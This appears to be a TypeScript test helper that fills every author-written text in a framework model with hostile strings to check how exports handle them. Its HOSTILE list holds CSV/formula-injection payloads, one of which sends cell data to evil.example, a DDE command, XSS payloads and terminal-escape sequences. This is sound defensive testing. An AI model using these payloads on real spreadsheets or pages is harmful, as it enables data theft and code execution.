import type { FrameworkModel } from '@gradus/model';

/** What authors write freely, wherever it stands in a model. */
const TEXTS = new Set(
    'title text objectText reason entries tasks aliases publisher source licence version author reviewer'.split(' ')
);

/** A copy of a model in which every text of an author is another one. */
export function withTexts(model: FrameworkModel, change: (text: string) => string): FrameworkModel {
    return changed(model, change, false) as FrameworkModel;
}

function changed(value: unknown, change: (text: string) => string, isText: boolean): unknown {
    if (typeof value === 'string') return isText ? change(value) : value;
    if (Array.isArray(value)) return value.map(each => changed(each, change, isText));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, changed(each, change, TEXTS.has(key))]));
}

/** Texts that mean something to some program that an export may be opened with. */
export const HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r\n=1+1',
    '\uff1d1+1',
    "'=1+1",
    "''@x",
    '"quoted", and ; more',
    ' spaces at the ends ',
    '<img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>',
    '| a | b |\n# heading\n- [x](javascript:alert(1)) `code`',
    '::error file=x::y\n##[group]z',
    ']]> <!-- & &amp; \'"',
    'a\\b\u0000\u0007\u001b[31mred\u2028\u202eabc\ud800',
    '"""\n" . <x> <y> <z> .\n@prefix',
    'tab\tcomma,line\nend',
    'x'.repeat(40_000)
] as const;

/** A model whose texts are all hostile, in turn. */
export function hostile(model: FrameworkModel): FrameworkModel {
    let index = 0;
    return withTexts(model, () => HOSTILE[index++ % (HOSTILE.length - 1)] ?? '');
}
